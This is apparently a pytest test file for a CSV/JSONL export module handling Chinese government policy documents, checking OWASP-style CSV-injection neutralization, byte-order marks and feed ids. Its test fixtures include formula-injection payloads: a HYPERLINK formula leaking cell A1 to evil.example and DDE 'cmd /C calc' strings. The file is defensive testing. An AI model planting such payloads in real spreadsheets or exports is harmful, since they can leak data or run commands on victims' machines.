"""Exports a spreadsheet opens safely: formula-looking cells neutralized (OWASP's CSV
injection rule), a byte-order mark for Excel on request; a feed id that names the query."""
from __future__ import annotations

import csv
import io
import json

import pytest

from storage.exports import EXPORT_FIELDS, feed_id, safe_cell, write_export

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "agency": "+1+cmd|' /C calc'!A0",
    "region": "-2+3",
    "doc_type": "@SUM(1+1)*cmd|' /C calc'!A0",
    "status": "\t=1+1",
    "category": "\r=1+1",
}


def _row(**fields) -> dict:
    row = {name: None for name in EXPORT_FIELDS}
    row.update(id=7, title="关于做好养老服务的通知", topics=["养老"], urls=["http://gov.example/1.html"], text="正文")
    row.update(fields)
    return row


def _csv(rows, **kwargs) -> str:
    out = io.StringIO(newline="")
    write_export(iter(rows), "csv", out, **kwargs)
    return out.getvalue()


def test_csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote():
    (read,) = csv.DictReader(io.StringIO(_csv([_row(**HOSTILE)])))
    for name, value in HOSTILE.items():
        assert read[name] == "'" + value, name


def test_csv_leaves_ordinary_cells_as_they_are():
    text = "第一条 为推进医养结合，制定本办法。\n第二条 …"
    (read,) = csv.DictReader(io.StringIO(_csv([_row(text=text, doc_number="国办发〔2019〕5号")])))
    assert (read["title"], read["doc_number"], read["text"], read["id"]) == (
        "关于做好养老服务的通知", "国办发〔2019〕5号", text, "7")
    assert read["urls"] == "http://gov.example/1.html" and read["topics"] == "养老"


def test_a_formula_in_an_attachment_url_list_or_topic_is_neutralized_too():
    (read,) = csv.DictReader(io.StringIO(_csv([_row(urls=["=cmd", "http://x/"], topics=["@x"])])))
    assert read["urls"] == "'=cmd http://x/" and read["topics"] == "'@x"


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\t1", "\r1"])
def test_safe_cell_follows_the_owasp_list(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("a" + value) == "a" + value and safe_cell(5) == 5 and safe_cell(None) is None


def test_bom_starts_the_csv_only_when_asked():
    assert _csv([_row()], bom=True).startswith("\ufeffid,")
    assert _csv([_row()]).startswith("id,")
    # Excel's reading: utf-8-sig takes the mark off again
    text = _csv([_row()], bom=True).encode("utf-8").decode("utf-8-sig")
    assert next(csv.DictReader(io.StringIO(text)))["title"] == "关于做好养老服务的通知"


def test_json_lines_are_data_for_programs_written_as_they_are():
    out = io.StringIO()
    assert write_export(iter([_row(**HOSTILE)]), "jsonl", out) == 1
    assert json.loads(out.getvalue())["title"] == HOSTILE["title"]
    with pytest.raises(ValueError, match="CSV only"):
        write_export(iter([]), "jsonl", io.StringIO(), bom=True)


def test_feed_id_names_the_query_not_the_moment():
    query = {"arrived_since": "7d", "limit": 100, "region": "保山", "topic": None}
    assert feed_id("new", query) == feed_id("new", dict(reversed(list(query.items()))))
    assert feed_id("new", query).startswith("urn:uuid:")
    assert feed_id("new", {**query, "region": "沈阳"}) != feed_id("new", query)
    assert feed_id("new", {**query, "arrived_since": "2d"}) != feed_id("new", query)
    # a filter left out and a filter given empty are the same query
    assert feed_id("new", {**query, "agency": ""}) == feed_id("new", query)
